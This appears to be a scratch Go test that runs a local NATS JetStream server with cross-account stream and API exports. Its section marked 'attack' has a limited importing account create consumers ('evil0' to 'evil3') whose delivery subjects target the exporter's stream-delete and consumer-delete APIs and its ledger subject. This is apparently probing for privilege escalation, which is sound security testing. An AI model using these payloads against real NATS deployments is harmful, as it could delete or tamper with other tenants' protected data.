package natsapi

import (
	"context"
	"fmt"
	"testing"
	"time"

	"github.com/nats-io/nats-server/v2/server"
	"github.com/nats-io/nats.go"
	"github.com/nats-io/nats.go/jetstream"
)

const cfg = `
server_name: x
listen: 127.0.0.1:-1
accounts {
  WORK: {users: [{user: w, password: w}]}
  FEED: {
    users: [{user: f, password: f}]
    imports: [
      {stream: {account: LOG, subject: "led.main.>"}}
      {service: {account: LOG, subject: "$JS.API.STREAM.INFO.LEDGER_main"}, to: "LJS.API.STREAM.INFO.LEDGER_main"}
      {service: {account: LOG, subject: "$JS.API.CONSUMER.CREATE.LEDGER_main.>"}, to: "LJS.API.CONSUMER.CREATE.LEDGER_main.>"}
      {service: {account: LOG, subject: "$JS.API.CONSUMER.INFO.LEDGER_main.*"}, to: "LJS.API.CONSUMER.INFO.LEDGER_main.*"}
      {service: {account: LOG, subject: "$JS.API.CONSUMER.DELETE.LEDGER_main.*"}, to: "LJS.API.CONSUMER.DELETE.LEDGER_main.*"}
      {service: {account: LOG, subject: "$JS.API.CONSUMER.MSG.NEXT.LEDGER_main.*"}, to: "LJS.API.CONSUMER.MSG.NEXT.LEDGER_main.*"}
    ]
  }
  LOG: {
    users: [{user: l, password: l}]
    jetstream: {max_store: 1GB, max_mem: 0}
    exports: [
      {stream: "led.main.>", accounts: [FEED]}
      {service: "$JS.API.STREAM.INFO.LEDGER_main", accounts: [FEED]}
      {service: "$JS.API.CONSUMER.CREATE.LEDGER_main.>", accounts: [FEED]}
      {service: "$JS.API.CONSUMER.INFO.LEDGER_main.*", accounts: [FEED]}
      {service: "$JS.API.CONSUMER.DELETE.LEDGER_main.*", accounts: [FEED]}
      {service: "$JS.API.CONSUMER.MSG.NEXT.LEDGER_main.*", response: stream, accounts: [FEED]}
    ]
  }
}
`

func TestScratch(t *testing.T) {
	o := &server.Options{NoSigs: true, JetStream: true, StoreDir: t.TempDir()}
	if err := o.ProcessConfigString(cfg); err != nil {
		t.Fatal(err)
	}
	o.NoSigs = true
	s, err := server.NewServer(o)
	if err != nil {
		t.Fatal(err)
	}
	s.ConfigureLogger()
	s.Start()
	defer s.Shutdown()
	if !s.ReadyForConnections(5 * time.Second) {
		t.Fatal("not ready")
	}
	con := func(u string) *nats.Conn {
		nc, err := nats.Connect(s.ClientURL(), nats.UserInfo(u, u), nats.CustomInboxPrefix("_INBOX."+u), nats.ErrorHandler(func(_ *nats.Conn, _ *nats.Subscription, err error) { fmt.Println(u, "async", err) }))
		if err != nil {
			t.Fatal(err)
		}
		return nc
	}
	l, f := con("l"), con("f")
	js, _ := jetstream.New(l)
	ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
	defer cancel()
	_, err = js.CreateStream(ctx, jetstream.StreamConfig{Name: "LEDGER_main", Subjects: []string{"led.main.>"}, DenyDelete: true, DenyPurge: true, FirstSeq: 1})
	if err != nil {
		t.Fatal(err)
	}
	for i := 0; i < 5; i++ {
		if _, err := js.Publish(ctx, "led.main.decision.a.x", []byte(fmt.Sprintf(`{"a":%d}`, i))); err != nil {
			t.Fatal(err)
		}
	}
	fjs, err := jetstream.NewWithAPIPrefix(f, "LJS.API")
	if err != nil {
		t.Fatal(err)
	}
	oc, err := fjs.OrderedConsumer(ctx, "LEDGER_main", jetstream.OrderedConsumerConfig{DeliverPolicy: jetstream.DeliverAllPolicy})
	if err != nil {
		t.Fatal("ordered", err)
	}
	it, err := oc.Messages()
	if err != nil {
		t.Fatal(err)
	}
	for i := 0; i < 5; i++ {
		m, err := it.Next(jetstream.NextContext(ctx))
		if err != nil {
			t.Fatal(err)
		}
		md, err := m.Metadata()
		fmt.Println(m.Subject(), string(m.Data()), md, err)
	}
	it.Stop()
	// attack
	s.SetLoggerV2(nil, false, false, false)
	try := func(name, body string) {
		r, err := f.Request("LJS.API.CONSUMER.CREATE.LEDGER_main."+name, []byte(body), 2*time.Second)
		fmt.Println("==", name, err)
		if r != nil && len(r.Data) < 300 {
			fmt.Println(string(r.Data))
		}
		time.Sleep(1000 * time.Millisecond)
		if _, err = js.Stream(ctx, "LEDGER_main"); err != nil {
			fmt.Println("stream", err)
			return
		}
		str, _ := js.Stream(ctx, "LEDGER_main")
		fmt.Println("last", str.CachedInfo().State.LastSeq, str.CachedInfo().State.Msgs)
		if r, err = l.Request("$JS.API.CONSUMER.INFO.LEDGER_main."+name, nil, time.Second); err == nil { fmt.Println(string(r.Data)) }
	}
	l.Subscribe("foo.l", func(m *nats.Msg) { fmt.Println("LOG got", m.Subject, m.Reply, m.Header) })
	l.Flush()
	try("evil0", `{"stream_name":"LEDGER_main","config":{"name":"evil0","deliver_subject":"foo.l","headers_only":true,"deliver_policy":"all","ack_policy":"none"}}`)
	try("evil1", `{"stream_name":"LEDGER_main","config":{"name":"evil1","deliver_subject":"$JS.API.STREAM.DELETE.LEDGER_main","headers_only":true,"deliver_policy":"all","ack_policy":"none"}}`)
	try("evil2", `{"stream_name":"LEDGER_main","config":{"name":"evil2","deliver_subject":"$JS.API.CONSUMER.DELETE.LEDGER_main.evil0","headers_only":true,"deliver_policy":"all","ack_policy":"none"}}`)
	try("evil3", `{"stream_name":"LEDGER_main","config":{"name":"evil3","deliver_subject":"led.main.x","headers_only":true,"deliver_policy":"all","ack_policy":"none"}}`)
	try("evil0", `{"stream_name":"LEDGER_main","config":{"name":"evil0","deliver_subject":"foo.l","headers_only":true,"deliver_policy":"all","ack_policy":"none"}}`)
}
